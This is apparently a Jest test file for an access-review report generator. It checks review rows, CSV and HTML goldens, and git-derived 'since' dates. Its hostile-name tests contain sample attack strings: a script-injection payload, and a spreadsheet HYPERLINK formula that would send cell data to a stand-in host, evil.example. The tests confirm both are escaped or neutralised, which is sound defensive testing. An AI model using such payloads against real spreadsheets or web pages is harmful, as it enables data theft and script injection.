/**
 * The access review's rows, CSV and HTML: goldens on the example estate, the rows are exactly the
 * plan's access, hostile names escaped, formula-like cells neutralised, and git history as "since".
 */
import { execFileSync } from "node:child_process";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { buildPlan } from "../../provider/plan/build";
import { compileFilter, planContext } from "../../provider/plan/filter";
import { csvField, reviewCsv, safeCell } from "../../provider/report/csv";
import { firstCommits, parseFirstCommits } from "../../provider/report/history";
import { esc, reviewHtml } from "../../provider/report/html";
import { buildReview, reviewInputs, OwnerError, REVIEW_COLUMNS } from "../../provider/report/rows";
import { expectGolden } from "../support/golden";
import { exampleEstate, fixedSince, HOSTILE, hostileEstate, NOW, reviewOf } from "./support";

const GOLDEN = path.join(__dirname, "golden");

describe("the review of the example estate", () => {
  const estate = exampleEstate();
  const plan = buildPlan(estate, NOW);

  test("rows are exactly the plan's access: every (user, data source) pair, with its access", () => {
    const review = reviewOf(estate);
    const fromRows = new Map<string, string>();
    for (const r of review.rows) {
      const k = `${r.user}\n${r.dataSource}`;
      if (fromRows.get(k) !== "write") fromRows.set(k, r.access);
    }
    expect(new Map(plan.access.map((e) => [`${e.user}\n${e.dataSource}`, e.access]))).toEqual(fromRows);
    // Staged policies grant nothing: no row names one.
    expect(review.rows.some((r) => r.policy === "marketing-read")).toBe(false);
  });

  test("one owner: only the data sources they own, with approvals and approvers", () => {
    const erin = reviewOf(estate, "erin");
    expect(erin.dataSources.map((d) => d.id)).toEqual(["uc.finance.ledger"]);
    expect(erin.rows.map((r) => [r.user, r.access, r.policy, r.principal, r.principalKind])).toEqual([
      ["carol", "read", "finance-analysts-read", "ap-finance-analysts-read--f78a7655", "Databricks account group"],
      ["erin", "read", "finance-analysts-read", "ap-finance-analysts-read--f78a7655", "Databricks account group"],
    ]);
    const everyone = reviewOf(estate);
    const salaries = everyone.rows.filter((r) => r.dataSource === "synapse.hr.salaries");
    expect(salaries).toEqual([
      expect.objectContaining({
        user: "carol",
        approvedBy: "erin",
        approvedAt: "2026-02-01T09:00:00.000Z",
        since: "2026-02-01T09:00:00.000Z",
        sinceSource: "approval",
        until: "2027-06-30T00:00:00Z",
        approvers: ["group:stewards"],
      }),
    ]);
  });

  test("filters narrow the review as they narrow the plan", () => {
    const ctx = planContext(estate);
    const review = buildReview({ plan, ctx, ...reviewInputs(estate), filter: compileFilter({ users: ["bob"], platforms: ["s3"] }, ctx) });
    expect(review.rows.map((r) => `${r.user} ${r.dataSource} ${r.policy}`)).toEqual([
      "bob s3.landing.sales data-engineers-write",
      "bob s3.ml.artifacts data-engineers-write",
      "bob s3.ml.artifacts ml-named-users",
    ]);
    expect(review.rows.find((r) => r.policy === "ml-named-users")?.until).toBe("2027-01-15T00:00:00Z");
  });

  test("an owner who owns nothing is an error naming the owners there are", () => {
    expect(() => reviewOf(estate, "eirn")).toThrow(new OwnerError("eirn", ["erin", "bob"]));
    expect(() => reviewOf(estate, "eirn")).toThrow("--owner `eirn` owns no data source; owners in the estate: `erin`, `bob`");
  });

  test("CSV golden", () => {
    const csv = reviewCsv(reviewOf(estate));
    expect(csv.split("\r\n")[0]).toBe([...REVIEW_COLUMNS, "decision (keep/revoke)"].join(","));
    expect(csv.split("\r\n").length).toBe(reviewOf(estate).rows.length + 2);
    expectGolden(path.join(GOLDEN, "example-review.csv"), csv);
  });

  test("HTML golden (one owner)", () => {
    expectGolden(
      path.join(GOLDEN, "example-review-bob.html"),
      reviewHtml(reviewOf(estate, "bob"), { generator: "accessplane test", estate: "accessplane.yaml" }),
    );
  });

  test("the HTML is self-contained: no URL to load, a policy that forbids loading any", () => {
    const html = reviewHtml(reviewOf(estate));
    expect(html).toContain(`content="default-src 'none';`);
    expect(html).not.toMatch(/<link\b|<img\b|<iframe\b|@import|url\(|\bsrc=|\bhref=/i);
    expect(html.match(/<script>/g)).toHaveLength(1);
  });
});

describe("hostile names", () => {
  const review = reviewOf(hostileEstate(), HOSTILE.owner);

  test("escape turns every markup character into an entity", () => {
    expect(esc(`<a href="x" title='y'>&</a>`)).toBe("&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;&lt;/a&gt;");
  });

  test("HTML: no hostile name appears unescaped", () => {
    const html = reviewHtml(review, { filter: `--user ${HOSTILE.user}` });
    for (const v of Object.values(HOSTILE)) {
      if (/[<>"'&]/.test(v)) expect(html).not.toContain(v);
      expect(html).toContain(esc(v));
    }
    expect(html).not.toMatch(/<script>window/);
    expect(html).not.toMatch(/<img /);
  });

  test("CSV: quoted per RFC 4180, formula-like cells prefixed with a quote", () => {
    expect(csvField(`a,b`)).toBe(`"a,b"`);
    expect(csvField(`say "hi"`)).toBe(`"say ""hi"""`);
    expect(csvField("two\nlines")).toBe(`"two\nlines"`);
    expect(csvField("plain")).toBe("plain");
    for (const s of ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"]) expect(safeCell(s)).toBe(`'${s}`);
    expect(safeCell("a=1")).toBe("a=1");
    const csv = reviewCsv(review);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1)"`);
    expect(csv).toContain(`"""><script>window.__pwned=2</script>"`);
    for (const line of csv.trimEnd().split("\r\n")) for (const cell of line.split(",")) expect(cell).not.toMatch(/^"?[=+\-@]/);
  });
});

describe("since, from git", () => {
  test("parses the first commit adding each file (git log is newest first)", () => {
    const out = "\u00002026-05-02T10:00:00+02:00\n\npolicies/b.yaml\n\u00002026-01-01T00:00:00Z\n\npolicies/a.yaml\npolicies/b.yaml\n";
    expect(parseFirstCommits(out)).toEqual(
      new Map([
        ["policies/b.yaml", "2026-01-01T00:00:00Z"],
        ["policies/a.yaml", "2026-01-01T00:00:00Z"],
      ]),
    );
  });

  test("reads a real repository; no date outside one", async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "accessplane-history-"));
    try {
      expect(await firstCommits(["policies/a.yaml"], dir)).toEqual(new Map());
      const git = (args: string[], date: string) =>
        execFileSync("git", args, {
          cwd: dir,
          env: {
            ...process.env,
            GIT_AUTHOR_DATE: date,
            GIT_COMMITTER_DATE: date,
            GIT_AUTHOR_NAME: "t",
            GIT_AUTHOR_EMAIL: "t@example.com",
            GIT_COMMITTER_NAME: "t",
            GIT_COMMITTER_EMAIL: "t@example.com",
          },
        });
      git(["init", "-q"], "2026-01-01T00:00:00Z");
      fs.mkdirSync(path.join(dir, "policies"));
      fs.writeFileSync(path.join(dir, "policies/a.yaml"), "name: a\n");
      git(["add", "."], "2026-01-01T00:00:00Z");
      git(["commit", "-qm", "a"], "2026-01-05T12:00:00Z");
      fs.writeFileSync(path.join(dir, "policies/a.yaml"), "name: a\naccess: read\n");
      fs.writeFileSync(path.join(dir, "policies/b.yaml"), "name: b\n");
      git(["add", "."], "2026-02-01T00:00:00Z");
      git(["commit", "-qm", "b"], "2026-02-03T08:30:00Z");
      expect(await firstCommits(["policies/a.yaml", "policies/b.yaml", "policies/untracked.yaml"], dir)).toEqual(
        new Map([
          ["policies/a.yaml", "2026-01-05T12:00:00.000Z"],
          ["policies/b.yaml", "2026-02-03T08:30:00.000Z"],
        ]),
      );
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  test("the review falls back from git to nothing, and prefers the approval", () => {
    const estate = exampleEstate();
    const plan = buildPlan(estate, NOW);
    const ctx = planContext(estate);
    const without = buildReview({ plan, ctx, ...reviewInputs(estate) });
    expect(without.rows.filter((r) => r.since !== undefined).every((r) => r.sinceSource === "approval")).toBe(true);
    const withGit = buildReview({ plan, ctx, ...reviewInputs(estate), policySince: fixedSince(estate) });
    expect(withGit.rows.every((r) => r.since !== undefined)).toBe(true);
  });
});
